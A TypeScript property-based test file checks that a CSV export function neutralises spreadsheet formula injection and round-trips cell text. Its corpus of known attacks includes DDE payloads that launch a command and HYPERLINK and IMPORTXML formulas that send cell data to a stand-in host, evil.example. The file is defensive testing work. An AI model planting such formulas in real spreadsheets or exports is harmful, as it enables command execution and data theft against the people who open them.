// Any text in any cell: what is exported reads back as it was, but for the apostrophe, and no spreadsheet finds a
// formula in it, whichever separator its country uses.
import assert from "node:assert/strict";
import { test } from "node:test";
import { array, assert as check, constantFrom, oneof, property, string } from "fast-check";
import { csvRow } from "../../src/csv/csv.ts";

/** Known attacks on spreadsheets. */
const CORPUS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Error")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u202e=1+1",
  '"=1+1',
  '",=1+1,"',
  "a;=1+1",
  "a\t=1+1",
  "＝1+1",
  "＠SUM(1)",
  "'=1+1",
  "%0A=1+1",
  'DDE("cmd";"/C calc";"x")',
];
const SIGN = /^[=+\-@＝＋－＠\t\r]/u;

const piece = constantFrom(
  "=",
  "+",
  "-",
  "@",
  "\t",
  "\r",
  "\n",
  ";",
  ",",
  '"',
  "'",
  " ",
  "\u200b",
  "＝",
  "a",
  "1",
  "(",
);
const text = oneof(
  array(piece, { maxLength: 12 }).map((pieces) => pieces.join("")),
  string({ unit: "binary" }),
  constantFrom(...CORPUS),
);

/** A reader of RFC 4180, of one row. */
function read(row: string): string[] {
  assert.ok(row.endsWith("\r\n"));
  const cells: string[] = [];
  let at = 0;
  do {
    const quoted = /"((?:[^"]|"")*)"(?=,|\r\n$)/uy;
    const plain = /[^",\r\n]*(?=,|\r\n$)/uy;
    quoted.lastIndex = plain.lastIndex = at;
    const match = quoted.exec(row);
    const found = match ?? plain.exec(row);
    assert.ok(found, `no cell at ${at} of ${JSON.stringify(row)}`);
    cells.push(match === null ? found[0] : (match[1] as string).replaceAll('""', '"'));
    at += found[0].length + 1;
  } while (at < row.length - 1);
  return cells;
}

/** Without the apostrophes that stand where a spreadsheet begins to read a cell. */
function bare(cell: string): string {
  return cell.replaceAll(/(^|[;\t])'+/g, "$1");
}

function assertInert(cell: string): void {
  for (const part of [cell, ...cell.split(/[;\t]/).slice(1)]) {
    const seen = part.replace(/^[\s\p{Cc}\p{Cf}]+/u, "");
    assert.doesNotMatch(seen, SIGN, JSON.stringify(cell));
  }
  assert.doesNotMatch(cell, /^[\t\r]/, JSON.stringify(cell));
}

test("any row of any texts reads back cell by cell, equal but for the apostrophe", () => {
  check(
    property(array(text, { minLength: 1, maxLength: 6 }), (cells) => {
      const back = read(csvRow(cells));
      assert.deepEqual(back.map(bare), cells.map(bare));
    }),
    { numRuns: 2000 },
  );
});

test("no cell begins with = + - @, a tab or a return, after blanks nor after another country's separator", () => {
  for (const attack of CORPUS) assertInert(read(csvRow([attack]))[0] as string);
  check(
    property(text, (cell) => assertInert(read(csvRow([cell]))[0] as string)),
    { numRuns: 3000 },
  );
});

test("a text that computes nothing is exported as it is", () => {
  const harmless = string().filter((cell) => !/[=+\-@;\t\r\n\p{Cc}\p{Cf}]/u.test(cell));
  check(
    property(harmless, (cell) => assert.deepEqual(read(csvRow([cell])), [cell])),
    { numRuns: 500 },
  );
});
